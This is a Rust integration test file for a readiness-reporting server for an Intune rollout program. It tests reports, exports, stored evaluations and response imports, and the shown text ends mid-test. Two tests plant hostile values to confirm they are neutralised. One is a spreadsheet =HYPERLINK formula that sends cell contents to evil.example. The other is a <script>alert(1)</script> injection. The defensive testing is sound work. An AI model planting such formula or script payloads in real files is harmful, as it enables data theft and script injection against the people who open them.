//! Readiness on the server: the report of the program's data directory, what it speaks for,
//! the downloads and the export, stored evaluations and the EXPAND rule reading them, the merge
//! of collected and imported responses, and the errors when inputs are missing or do not fit.

use super::support::{Auth, demo_roster, upload};
use super::{Api, Reply, assert_error, demo_api};
use axum::http::StatusCode;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::io::Read;
use wavegate_core::i18n::Lang;
use wavegate_server::Store;

const DEMO: &str = "/api/v1/programs/demo";

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The files of a zip, in order, with their bytes.
fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    (0..archive.len())
        .map(|i| {
            let mut file = archive.by_index(i).unwrap();
            let mut out = Vec::new();
            file.read_to_end(&mut out).unwrap();
            (file.name().unwrap().to_string(), out)
        })
        .collect()
}

async fn get(api: &Api, path: &str) -> Reply {
    api.call("GET", path, Auth::Viewer, None, Vec::new()).await
}

async fn post(api: &Api, path: &str) -> Reply {
    api.call("POST", path, Auth::Planner, None, Vec::new())
        .await
}

/// The demo program with its roster: collected responses of two surveys, no other file.
/// Sets the server's clock to noon (UTC) of `day`: evaluations are stored on their day only.
fn on_day(api: &Api, day: &str) {
    let day = chrono::NaiveDate::parse_from_str(day, "%Y-%m-%d").unwrap();
    api.clock.set(day.and_hms_opt(12, 0, 0).unwrap().and_utc());
}

async fn demo_with_roster() -> Api {
    let api = demo_api().await;
    assert_eq!(
        upload(&api, "roster", demo_roster(), "").await.status,
        StatusCode::OK
    );
    api
}

#[tokio::test]
async fn the_readiness_endpoint_sends_the_report_of_the_data_directory_it_exports() {
    let api = demo_with_roster().await;
    let r = get(&api, &format!("{DEMO}/readiness?at=2027-02-01&lang=nl")).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.content_type, "application/json");
    assert_eq!(r.body["evaluated_at"], "2027-02-01");
    assert_eq!(r.body["lang"], "nl");
    assert_eq!(r.body["next_wave"], "wave-1");
    // The demo's waves have names: the next wave's, and each wave's in the timeline.
    assert_eq!(r.body["next_wave_name"], "Hoofdkantoor");
    let timeline = r.body["enrollment_timeline"].as_array().unwrap();
    let names: Vec<&str> = timeline
        .iter()
        .map(|w| w["name"].as_str().unwrap_or("–"))
        .collect();
    assert_eq!(names, ["Pilot IT", "Hoofdkantoor", "Regio Noord"]);
    assert_eq!(
        r.body["data"]["responses"], 15,
        "8 personal and 7 anonymous"
    );
    assert!(
        r.bytes.ends_with(b"}\n"),
        "pretty JSON with a final newline"
    );

    // What it speaks for: the headers, the sibling endpoint and the export agree.
    let zip = get(&api, &format!("{DEMO}/export.zip")).await;
    assert_eq!(zip.status, StatusCode::OK);
    assert_eq!(zip.content_type, "application/zip");
    let files = unzip(&zip.bytes);
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "program.toml",
            "roster.csv",
            "responses.csv",
            "invitations.csv"
        ]
    );
    let expected: Vec<String> = files
        .iter()
        .map(|(n, b)| format!("{n}={}", sha256(b)))
        .collect();
    assert_eq!(r.headers["wavegate-inputs"], expected.join(", ").as_str());
    assert_eq!(
        files[1].1,
        demo_roster().as_bytes(),
        "the roster as uploaded"
    );
    let computed_at = r.headers["wavegate-computed-at"].to_str().unwrap();

    let e = get(
        &api,
        &format!("{DEMO}/readiness/evaluation?at=2027-02-01&lang=nl"),
    )
    .await;
    assert_eq!(e.status, StatusCode::OK);
    assert_eq!(e.body["report"], r.body);
    assert_eq!(e.body["at"], "2027-02-01");
    assert_eq!(
        e.body["computed_at"], computed_at,
        "the same evaluation, kept"
    );
    let inputs = e.body["inputs"].as_array().unwrap();
    assert_eq!(inputs.len(), 4);
    assert_eq!(inputs[2]["file"], "responses.csv");
    assert_eq!(inputs[2]["sha256"], sha256(&files[2].1));
    assert_eq!(inputs[2]["bytes"], files[2].1.len());

    let json = get(
        &api,
        &format!("{DEMO}/readiness.json?at=2027-02-01&lang=nl"),
    )
    .await;
    assert_eq!(json.bytes, r.bytes);
    assert_eq!(
        json.headers["content-disposition"],
        "attachment; filename=\"readiness-demo-2027-02-01.json\"; filename*=UTF-8''readiness-demo-2027-02-01.json"
    );

    // The same data always zips to the same bytes.
    assert_eq!(
        get(&api, &format!("{DEMO}/export.zip")).await.bytes,
        zip.bytes
    );
}

#[tokio::test]
async fn a_response_collected_after_an_evaluation_is_in_the_next_one() {
    let api = demo_with_roster().await;
    let path = format!("{DEMO}/readiness?at=2027-02-01");
    let before = get(&api, &path).await;
    assert_eq!(before.body["data"]["responses"], 15);
    // Asked again about unchanged data: the very evaluation.
    let again = get(&api, &path).await;
    assert_eq!(
        again.headers["wavegate-computed-at"],
        before.headers["wavegate-computed-at"]
    );
    // A viewer's list leaves the links out: the planner's has them.
    let links = api
        .get(&format!("{DEMO}/surveys/pilot-feedback/invitations"), true)
        .await;
    let open = links
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l.get("person_id").is_some() && l.get("submitted_at").is_none())
        .unwrap();
    let token = open["token"].as_str().unwrap();
    let response = super::valid_response(&api, token, "after-the-first-look").await;
    let r = api
        .post(&format!("/api/v1/respond/{token}"), response, false)
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let after = get(&api, &path).await;
    assert_eq!(after.body["data"]["responses"], 16);
    assert_ne!(
        after.headers["wavegate-inputs"],
        before.headers["wavegate-inputs"]
    );
}

#[tokio::test]
async fn the_markdown_report_names_when_it_was_computed_and_from_which_files() {
    let api = demo_with_roster().await;
    let r = get(&api, &format!("{DEMO}/readiness.md?at=2027-02-01&lang=en")).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.content_type, "text/markdown; charset=utf-8");
    let text = String::from_utf8(r.bytes).unwrap();
    let first = text.lines().next().unwrap();
    let computed_at = r.headers["wavegate-computed-at"].to_str().unwrap();
    // The time as people write it ("1 February 2027, 09:30 UTC"), not the header's RFC 3339.
    let written = wavegate_core::readiness::text::moment(computed_at, Lang::En);
    assert!(
        written != computed_at && written.ends_with(" UTC") && !written.contains("Z"),
        "{written}"
    );
    assert!(
        first.starts_with(&format!(
            "> Computed at {written} from `program.toml` (SHA-256 `"
        )),
        "{first}"
    );
    assert!(first.contains(&sha256(demo_roster().as_bytes())), "{first}");
    assert!(
        text.contains("**Next wave:** wave-1 (Hoofdkantoor)"),
        "{text}"
    );
    let nl = get(&api, &format!("{DEMO}/readiness.md?at=2027-02-01&lang=nl")).await;
    assert!(
        String::from_utf8(nl.bytes)
            .unwrap()
            .starts_with("> Berekend op ")
    );
}

#[tokio::test]
async fn every_readiness_endpoint_answers_404_for_an_unknown_program() {
    let api = demo_with_roster().await;
    for path in [
        "/readiness",
        "/readiness/evaluation",
        "/readiness.json",
        "/readiness.md",
        "/evaluations",
        "/evaluations/1",
        "/export.zip",
    ] {
        let r = get(&api, &format!("/api/v1/programs/nope{path}")).await;
        assert_error(&r, StatusCode::NOT_FOUND, "not_found");
    }
    let r = post(&api, "/api/v1/programs/nope/evaluations").await;
    assert_error(&r, StatusCode::NOT_FOUND, "not_found");
    let r = get(&api, &format!("{DEMO}/evaluations/99")).await;
    assert_error(&r, StatusCode::NOT_FOUND, "not_found");
    let r = get(&api, &format!("{DEMO}/evaluations/x")).await;
    assert_error(&r, StatusCode::BAD_REQUEST, "invalid_path");
    let r = get(&api, &format!("{DEMO}/readiness?at=1-2-2027")).await;
    assert_error(&r, StatusCode::BAD_REQUEST, "invalid_query");
}

#[tokio::test]
async fn an_evaluation_date_is_exactly_yyyy_mm_dd_on_every_endpoint_that_takes_one() {
    let api = demo_with_roster().await;
    for at in [
        "-2026-01-01",
        "%2B2026-01-01",
        "+2026-01-01",
        "%2B12026-01-01",
        "2026-1-1",
        "2026-01-01%20",
    ] {
        for path in ["/readiness", "/readiness/evaluation", "/readiness.md"] {
            let r = get(&api, &format!("{DEMO}{path}?at={at}")).await;
            assert_error(&r, StatusCode::BAD_REQUEST, "invalid_query");
            assert!(r.body.get("evaluated_at").is_none(), "{at}");
        }
        let r = post(&api, &format!("{DEMO}/evaluations?at={at}")).await;
        assert_error(&r, StatusCode::BAD_REQUEST, "invalid_query");
    }
}

#[tokio::test]
async fn without_a_roster_or_a_program_nothing_is_evaluated_and_the_answer_says_why() {
    let api = demo_api().await;
    let r = get(&api, &format!("{DEMO}/readiness?lang=nl")).await;
    assert_error(&r, StatusCode::CONFLICT, "no_roster");
    assert_eq!(
        r.body["error"]["message"],
        "Er is nog geen roster.csv; laad eerst de personeelslijst van het programma."
    );
    let r = post(&api, &format!("{DEMO}/evaluations?lang=en")).await;
    assert_error(&r, StatusCode::CONFLICT, "no_roster");
    assert_eq!(
        r.body["error"]["message"],
        "There is no roster.csv yet; import the program's roster first."
    );

    // A program from before programs had a definition.
    let fresh = Store::in_memory().unwrap();
    let old = wavegate_server::store::ProgramSeed {
        id: "old".into(),
        name: "Old".into(),
        program_toml: None,
        created_at: "2027-01-01T00:00:00Z".into(),
        surveys: Vec::new(),
        invitations: Vec::new(),
        responses: Vec::new(),
    };
    assert!(fresh.seed_program(old).await.unwrap());
    let old = Api::over(fresh, tempfile::tempdir().unwrap()).await;
    let r = get(&old, "/api/v1/programs/old/readiness?lang=en").await;
    assert_error(&r, StatusCode::UNPROCESSABLE_ENTITY, "invalid_program");
    assert_eq!(
        r.body["error"]["message"],
        "This program has no program.toml (waves, thresholds) yet; define the program first."
    );
}

#[tokio::test]
async fn stored_files_that_no_longer_fit_the_program_are_refused_with_the_file_and_line() {
    let api = demo_with_roster().await;
    // The program loses its wave-1, which the roster still names.
    let toml = "name = \"Intune-uitrol 2027 (demo)\"\n[[wave]]\nid = \"pilot\"\nstart = 2027-01-11\nend = 2027-01-29\n[[wave]]\nid = \"wave-2\"\nstart = 2027-03-08\nend = 2027-03-26\n";
    let r = api
        .call("PUT", DEMO, Auth::Planner, Some("application/toml"), toml)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let r = get(&api, &format!("{DEMO}/readiness?at=2027-02-01")).await;
    assert_error(&r, StatusCode::CONFLICT, "inputs_rejected");
    let details = &r.body["error"]["details"];
    assert_eq!(details["file"], "roster.csv");
    assert_eq!(
        details["line"], 14,
        "the first wave-1 person, after 12 pilot people"
    );
    assert_eq!(details["column_name"], "Wave");
}

/// A long-format responses file of another tool: an older copy of the demo's first collected
/// response (other answers) and a response of its own.
const IMPORTED_RESPONSES: &str = "response_id,survey_id,person_id,submitted_at,question_id,value\n\
demo-response-0001,pilot-feedback,p001,2027-01-14T09:00:00Z,nps,0\n\
demo-response-0001,pilot-feedback,p001,2027-01-14T09:00:00Z,adkar_desire,1\n\
elsewhere-1,other-tool,p009,2027-01-15T09:00:00Z,nps,7\n";

#[tokio::test]
async fn imported_responses_join_the_collected_ones_and_the_collected_one_wins_over_its_copy() {
    let api = demo_with_roster().await;
    let r = upload(&api, "responses", IMPORTED_RESPONSES, "?dry_run=true").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["rows"], 2);
    assert_eq!(r.body["anonymous"], 0);
    assert_eq!(r.body["preview"]["rows"][0][0], "demo-response-0001");
    assert_eq!(r.body["stored"], false);
    let r = upload(&api, "responses", IMPORTED_RESPONSES, "").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let listed = get(&api, &format!("{DEMO}/files")).await;
    assert_eq!(listed.body[0]["kind"], "responses");
    let download = get(&api, &format!("{DEMO}/files/responses")).await;
    assert_eq!(download.bytes, IMPORTED_RESPONSES.as_bytes());

    let report = get(&api, &format!("{DEMO}/readiness?at=2027-02-01")).await;
    assert_eq!(report.status, StatusCode::OK, "{:?}", report.body);
    assert_eq!(
        report.body["data"]["responses"], 16,
        "15 collected and 1 imported"
    );
    let files = unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes);
    let responses = String::from_utf8(files[2].1.clone()).unwrap();
    let first: Vec<&str> = responses
        .lines()
        .filter(|l| l.starts_with("demo-response-0001,"))
        .collect();
    assert!(!first.is_empty());
    assert!(
        first.iter().all(|l| !l.contains(",2027-01-14T09:00:00Z,")),
        "only the collected rows of demo-response-0001: {first:?}"
    );
    assert!(
        responses.contains("\r\nelsewhere-1,other-tool,,p009,"),
        "{responses}"
    );
}

#[tokio::test]
async fn training_records_are_imported_and_evaluated() {
    let api = demo_with_roster().await;
    let training = "person_id,module_id,status,attempts,passed\np001,intune-basics,completed,1,true\np002,intune-basics,assigned,,\nzoe,intune-basics,assigned,,\n";
    let r = upload(&api, "training", training, "").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(
        (
            &r.body["rows"],
            &r.body["people_matched"],
            &r.body["unmatched_rows"]
        ),
        (&Value::from(3), &Value::from(2), &Value::from(1))
    );
    let report = get(&api, &format!("{DEMO}/readiness?at=2027-02-01")).await;
    assert_eq!(report.body["data"]["training_records"], 3);
    assert_eq!(report.body["data"]["unmatched"]["training_records"], 1);
    let names: Vec<String> = unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes)
        .into_iter()
        .map(|(n, _)| n)
        .collect();
    assert_eq!(
        names,
        vec![
            "program.toml",
            "roster.csv",
            "responses.csv",
            "training.csv",
            "invitations.csv"
        ]
    );
}

#[tokio::test]
async fn the_training_page_reads_imported_records_per_module_small_modules_without_counts() {
    let api = demo_with_roster().await;
    let imported = format!("{DEMO}/training/imported");
    let none = get(&api, &imported).await;
    assert_eq!(none.status, StatusCode::OK, "{:?}", none.body);
    assert_eq!(
        none.body,
        json!({"file_name": null, "imported_at": null, "modules": []})
    );
    let mut training = String::from("person_id,module_id,status,attempts,passed\n");
    for (i, status) in [
        "completed",
        "completed",
        "started",
        "assigned",
        "assigned",
        "completed",
    ]
    .iter()
    .enumerate()
    {
        let passed = if *status == "completed" {
            "1,true"
        } else {
            ","
        };
        training.push_str(&format!("p{:03},lms-onboarding,{status},{passed}\n", i + 1));
    }
    // The same person twice: counted once, by the last row.
    training.push_str("p001,lms-onboarding,completed,2,true\n");
    for i in 1..=3 {
        training.push_str(&format!("p{i:03},lms-privacy,completed,1,true\n"));
    }
    let r = upload(&api, "training", training, "").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let r = get(&api, &imported).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["file_name"], "training.csv");
    assert_eq!(
        r.body["modules"],
        json!([
            {"module_id": "lms-onboarding", "people": 6, "started": 4, "completed": 3,
             "completed_percent": 50, "passed": 3},
            {"module_id": "lms-privacy", "people": null, "started": null, "completed": null,
             "completed_percent": null, "passed": null},
        ])
    );
    let unknown = get(&api, "/api/v1/programs/nope/training/imported").await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_surveys_page_reads_imported_responses_per_survey_small_surveys_without_figures() {
    let api = demo_with_roster().await;
    let imported = format!("{DEMO}/responses/imported");
    let none = get(&api, &imported).await;
    assert_eq!(none.status, StatusCode::OK, "{:?}", none.body);
    assert_eq!(
        none.body,
        json!({"file_name": null, "imported_at": null, "surveys": []})
    );
    let mut responses = String::from(
        "response_id,survey_id,survey_version,person_id,submitted_at,question_id,value\n",
    );
    // Six people of another tool's pilot survey: 9, 10, 10, 7, 3 and 0 for the recommendation.
    for (i, nps) in [9, 10, 10, 7, 3, 0].iter().enumerate() {
        let (id, person) = (format!("x{i}"), format!("p{:03}", i + 1));
        responses.push_str(&format!(
            "{id},lms-survey,1,{person},2027-01-1{i} 10:00,nps,{nps}\n{id},lms-survey,1,{person},2027-01-1{i} 10:00,adkar_awareness,5\n{id},lms-survey,1,{person},2027-01-1{i} 10:00,adkar_desire,2\n"
        ));
    }
    for i in 1..=2 {
        responses.push_str(&format!("y{i},tiny,1,p00{i},2027-01-12 10:00,nps,9\n"));
    }
    let r = upload(&api, "responses", responses, "").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let r = get(&api, &imported).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["file_name"], "responses.csv");
    let surveys = r.body["surveys"].as_array().unwrap();
    let lms = &surveys[0];
    assert_eq!(
        (
            &lms["survey_id"],
            &lms["responses"],
            &lms["first_day"],
            &lms["last_day"]
        ),
        (
            &json!("lms-survey"),
            &json!(6),
            &json!("2027-01-10"),
            &json!("2027-01-15")
        )
    );
    // 3 promoters, 1 passive, 2 detractors: NPS 17.
    assert_eq!(
        (&lms["nps"]["promoters"], &lms["nps"]["detractors"]),
        (&json!(3), &json!(2))
    );
    assert!((lms["nps"]["score"].as_f64().unwrap() - 100.0 / 6.0).abs() < 1e-9);
    let desire = lms["adkar"]["barriers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["value"] == "desire")
        .unwrap();
    assert_eq!(desire["count"], 6);
    assert!(lms["sus"].is_null(), "the file has no SUS items");
    assert_eq!(
        surveys[1],
        json!({"survey_id": "tiny", "responses": null, "first_day": null, "last_day": null,
               "sus": null, "nps": null, "adkar": null})
    );
    // A file imported anew is read anew (summaries are kept by the file's hash, never by the
    // program): the two responses of `tiny` alone now.
    let tiny = "response_id,survey_id,survey_version,person_id,submitted_at,question_id,value\ny1,tiny,1,p001,2027-01-12 10:00,nps,9\n";
    assert_eq!(
        upload(&api, "responses", tiny, "").await.status,
        StatusCode::OK
    );
    let r = get(&api, &imported).await;
    let ids: Vec<&str> = (r.body["surveys"].as_array().unwrap().iter())
        .map(|s| s["survey_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["tiny"]);
    let unknown = get(&api, "/api/v1/programs/nope/responses/imported").await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn evaluations_are_stored_once_per_date_listed_and_read_back() {
    let api = demo_with_roster().await;
    on_day(&api, "2027-02-01");
    let first = post(&api, &format!("{DEMO}/evaluations?at=2027-02-01&lang=en")).await;
    assert_eq!(first.status, StatusCode::CREATED, "{:?}", first.body);
    let id = first.body["id"].as_u64().unwrap();
    assert_eq!(first.body["at"], "2027-02-01");
    assert_eq!(first.body["created_by"], "token:test-planner");
    assert_eq!(first.body["next_wave"], "wave-1");
    assert_eq!(first.body["inputs"].as_array().unwrap().len(), 4);
    let report = get(&api, &format!("{DEMO}/readiness?at=2027-02-01&lang=en")).await;
    assert_eq!(first.body["report"], report.body);
    assert_eq!(
        first.body["decision"], report.body["decision"]["kind"],
        "the list shows the decision's kind"
    );

    // The same date again with unchanged data: nothing new.
    on_day(&api, "2027-02-01");
    let again = post(&api, &format!("{DEMO}/evaluations?at=2027-02-01&lang=en")).await;
    assert_eq!(again.status, StatusCode::OK);
    assert_eq!(again.body["id"], id);

    on_day(&api, "2027-02-03");
    let other = post(&api, &format!("{DEMO}/evaluations?at=2027-02-03&lang=nl")).await;
    assert_eq!(other.status, StatusCode::CREATED);
    let listed = get(&api, &format!("{DEMO}/evaluations")).await;
    let dates: Vec<&str> = listed
        .body
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["at"].as_str().unwrap())
        .collect();
    assert_eq!(dates, vec!["2027-02-03", "2027-02-01"]);
    assert!(
        listed.body[0].get("report").is_none(),
        "the list has no reports"
    );
    let one = get(&api, &format!("{DEMO}/evaluations/{id}")).await;
    assert_eq!(one.body, first.body);

    // New data, the same date: the new evaluation replaces the old one.
    upload(&api, "responses", IMPORTED_RESPONSES, "").await;
    on_day(&api, "2027-02-01");
    let newer = post(&api, &format!("{DEMO}/evaluations?at=2027-02-01&lang=en")).await;
    assert_eq!(newer.status, StatusCode::CREATED);
    assert_ne!(newer.body["id"], id);
    let gone = get(&api, &format!("{DEMO}/evaluations/{id}")).await;
    assert_error(&gone, StatusCode::NOT_FOUND, "not_found");

    // The export carries the stored reports for `wavegate score --history`.
    let files = unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes);
    let history: Vec<&str> = files
        .iter()
        .map(|(n, _)| n.as_str())
        .filter(|n| n.starts_with("history/"))
        .collect();
    assert_eq!(
        history,
        vec!["history/2027-02-01.json", "history/2027-02-03.json"]
    );
}

/// Files of a pilot where everything goes well (`tests/fixtures/healthy`, which the CLI's tests
/// score too): 60 people enrolled at once, compliant, trained, 50 of them delighted; 200 in
/// wave 1, 400 in wave 2. The program first, then each import by its kind.
fn healthy() -> Vec<(&'static str, String)> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/healthy");
    let read = |name: &str| std::fs::read_to_string(dir.join(name)).unwrap();
    std::iter::once(("program.toml", read("program.toml")))
        .chain(
            [
                "roster",
                "devices",
                "enrollment_failures",
                "tickets",
                "responses",
                "training",
            ]
            .map(|kind| (kind, read(&format!("{kind}.csv")))),
        )
        .collect()
}

/// Creates the healthy program and imports its files; returns its path.
async fn healthy_program(api: &Api) -> String {
    let files = healthy();
    let r = api
        .call(
            "POST",
            "/api/v1/programs",
            Auth::Planner,
            Some("application/toml"),
            files[0].1.clone(),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let path = format!("/api/v1/programs/{}", r.body["id"].as_str().unwrap());
    for (kind, csv) in &files[1..] {
        let r = api
            .call(
                "PUT",
                &format!("{path}/files/{kind}"),
                Auth::Planner,
                Some("text/csv"),
                csv.clone(),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{kind}: {:?}", r.body);
    }
    path
}

#[tokio::test]
async fn a_formula_someone_typed_into_a_ticket_is_guarded_in_every_download() {
    let api = demo_with_roster().await;
    // A caller's description, as a ticketing system exports it.
    let tickets = "number,opened_at,caller,category,priority,short_description\n\
                   INC001,2027-01-12 09:00,p001@example.org,Intune,3,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"\n\
                   INC002,2027-01-12 10:00,p002@example.org,Intune,4,Portal start niet\n";
    let r = upload(&api, "tickets", tickets, "").await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let before = get(&api, &format!("{DEMO}/readiness?at=2027-02-01&lang=en")).await;
    assert_eq!(before.status, StatusCode::OK, "{:?}", before.body);
    for bytes in [
        get(&api, &format!("{DEMO}/files/tickets")).await.bytes,
        (unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes).into_iter())
            .find(|(n, _)| n == "tickets.csv")
            .unwrap()
            .1,
    ] {
        let text = String::from_utf8(bytes).unwrap();
        assert!(text.contains("\"'=HYPERLINK("), "{text}");
        assert!(
            !text.contains(",=HYPERLINK(") && !text.contains(",\"=HYPERLINK("),
            "{text}"
        );
    }
    // The evaluation reads the file as uploaded (its hash is the import's), both tickets.
    let tickets_hash = format!("tickets.csv={}", sha256(tickets.as_bytes()));
    let inputs = before.headers["wavegate-inputs"].to_str().unwrap();
    assert!(inputs.contains(&tickets_hash), "{inputs}");
    assert_eq!(
        before.body["data"]["tickets"], 2,
        "{:?}",
        before.body["data"]
    );
}

/// The list with `?segments=true`: each evaluation with its report's segments, as the report
/// has them, for a viewer too; without it the list stays as small as it was.
#[tokio::test]
async fn the_list_carries_each_evaluations_segments_when_asked() {
    let api = Api::new().await;
    let program = healthy_program(&api).await;
    on_day(&api, "2027-01-31");
    let first = post(&api, &format!("{program}/evaluations?lang=en")).await;
    assert_eq!(first.status, StatusCode::CREATED, "{:?}", first.body);
    on_day(&api, "2027-02-07");
    let second = post(&api, &format!("{program}/evaluations?lang=en")).await;
    assert_eq!(second.status, StatusCode::CREATED, "{:?}", second.body);
    assert!(
        first.body.get("segments").is_none(),
        "a stored evaluation has its report instead"
    );

    // `get` is a viewer's.
    let listed = get(&api, &format!("{program}/evaluations?segments=true")).await;
    assert_eq!(listed.status, StatusCode::OK, "{:?}", listed.body);
    let listed = listed.body.as_array().unwrap();
    assert_eq!(listed.len(), 2);
    for (entry, stored) in listed.iter().zip([&second, &first]) {
        assert_eq!(entry["at"], stored.body["at"]);
        let report = &stored.body["report"];
        let expected: Vec<Value> = report["segments"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| {
                serde_json::json!({
                    "segment": s["segment"], "n": s["n"], "state": s["state"],
                    "readiness": {
                        "estimate": s["readiness"]["estimate"],
                        "conservative": s["readiness"]["conservative"],
                    },
                })
            })
            .collect();
        assert!(expected.len() > 1, "the wave and its segments");
        assert_eq!(entry["segments"], Value::Array(expected), "{}", entry["at"]);
        assert_eq!(
            entry["segments"][0]["segment"],
            serde_json::json!({ "wave": report["next_wave"] }),
            "the whole wave first"
        );
    }
    let typed: Vec<wavegate_core::api::EvaluationSummary> =
        serde_json::from_value(Value::Array(listed.clone())).unwrap();
    assert!(typed.iter().all(|e| e.segments.is_some()));

    let plain = get(&api, &format!("{program}/evaluations")).await;
    assert!(
        plain
            .body
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e.get("segments").is_none()),
        "without asking, no segments"
    );
    let r = get(&api, &format!("{program}/evaluations?segments=yes")).await;
    assert_error(&r, StatusCode::BAD_REQUEST, "invalid_query");
    let r = get(&api, "/api/v1/programs/nope/evaluations?segments=true").await;
    assert_error(&r, StatusCode::NOT_FOUND, "not_found");
}

#[tokio::test]
async fn everything_passing_at_two_stored_evaluations_a_week_apart_expands() {
    let api = Api::new().await;
    let program = healthy_program(&api).await;
    let kind = |r: &Reply| r.body["decision"]["kind"].as_str().unwrap().to_string();
    // Without a stored evaluation there is nothing to expand on.
    let before = get(&api, &format!("{program}/readiness?at=2027-02-07")).await;
    assert_eq!(before.status, StatusCode::OK, "{:?}", before.body);
    assert_eq!(kind(&before), "proceed");
    assert_eq!(before.body["decision"]["everything_passes"], true);

    on_day(&api, "2027-01-31");
    let first = post(&api, &format!("{program}/evaluations?at=2027-01-31")).await;
    assert_eq!(first.status, StatusCode::CREATED);
    assert_eq!(first.body["everything_passes"], true);
    assert_eq!(first.body["decision"], "proceed");
    // Six days later is too soon; seven days later the stored one backs EXPAND.
    let soon = get(&api, &format!("{program}/readiness?at=2027-02-06")).await;
    assert_eq!(kind(&soon), "proceed");
    let later = get(&api, &format!("{program}/readiness?at=2027-02-07")).await;
    assert_eq!(kind(&later), "expand", "{:?}", later.body["decision"]);
    assert_eq!(later.body["decision"]["rule"], "all_pass_twice");
    on_day(&api, "2027-02-07");
    let stored = post(&api, &format!("{program}/evaluations?at=2027-02-07")).await;
    assert_eq!(stored.body["decision"], "expand");
    assert_eq!(stored.body["report"], later.body);
}

#[tokio::test]
async fn when_no_evaluation_slot_comes_free_in_time_the_answer_is_busy_with_retry_after() {
    let store = Store::in_memory().unwrap();
    wavegate_server::seed_demo(&store, "http://wavegate.test")
        .await
        .unwrap();
    let api = Api::over_with(store, tempfile::tempdir().unwrap(), |s| {
        s.with_evaluations(0, std::time::Duration::from_millis(50))
    })
    .await;
    upload(&api, "roster", demo_roster(), "").await;
    for path in ["/readiness", "/export.zip"] {
        let r = get(&api, &format!("{DEMO}{path}?lang=en")).await;
        assert_error(&r, StatusCode::SERVICE_UNAVAILABLE, "busy");
        assert_eq!(r.headers["retry-after"], "5");
    }
}

#[tokio::test]
async fn the_printable_report_names_its_inputs_keeps_hostile_values_as_text_and_runs_nothing() {
    let api = demo_api().await;
    let hostile = "<script>alert(1)</script>&HR";
    let roster = demo_roster().replace(";HR;", &format!(";{hostile};"));
    assert_eq!(
        upload(&api, "roster", roster.clone(), "").await.status,
        StatusCode::OK
    );
    let r = get(
        &api,
        &format!("{DEMO}/readiness.html?at=2027-02-01&lang=en"),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.content_type, "text/html; charset=utf-8");
    assert_eq!(
        r.headers["content-disposition"],
        "attachment; filename=\"readiness-demo-2027-02-01.html\"; filename*=UTF-8''readiness-demo-2027-02-01.html"
    );
    let policy = r.headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.starts_with("default-src 'none'; style-src 'sha256-"),
        "{policy}"
    );
    assert!(!policy.contains("script-src"), "no script at all: {policy}");
    assert!(!policy.contains("unsafe-inline"), "{policy}");

    let page = String::from_utf8(r.bytes).unwrap();
    assert!(
        page.starts_with("<!doctype html>\n<html lang=\"en\">"),
        "{page}"
    );
    assert!(page.contains("@page{size:A4"), "the print stylesheet");
    // The policy's one hash is that of the page's one stylesheet.
    let style = page
        .split_once("<style>")
        .and_then(|(_, rest)| rest.split_once("</style>"))
        .map(|(style, _)| style)
        .unwrap();
    use base64::Engine;
    let hash = base64::engine::general_purpose::STANDARD.encode(Sha256::digest(style.as_bytes()));
    assert!(
        policy.contains(&format!("style-src 'sha256-{hash}';")),
        "{policy}"
    );
    let computed_at = r.headers["wavegate-computed-at"].to_str().unwrap();
    let written = wavegate_core::readiness::text::moment(computed_at, Lang::En);
    assert!(page.contains(&format!("Computed at: {written}")), "{page}");
    assert!(
        page.contains(&format!(
            "<tr><th scope=\"row\">roster.csv</th><td class=\"hash\">{}</td><td>{}</td></tr>",
            sha256(roster.as_bytes()),
            roster.len()
        )),
        "{page}"
    );
    assert!(page.contains("<th scope=\"row\">program.toml</th>"));
    // A manager reads the decision first; the input files and their hashes come last.
    let decision = page.find("<h2>Decision").unwrap();
    let inputs = page.find("<h2>Input files</h2>").unwrap();
    assert!(decision < inputs && page[inputs..].contains("roster.csv"));
    // The hostile department is in the report, as text.
    assert!(
        page.contains("&lt;script&gt;alert(1)&lt;/script&gt;&amp;HR"),
        "{page}"
    );
    assert!(!page.contains("<script"), "{page}");

    let nl = get(
        &api,
        &format!("{DEMO}/readiness.html?at=2027-02-01&lang=nl"),
    )
    .await;
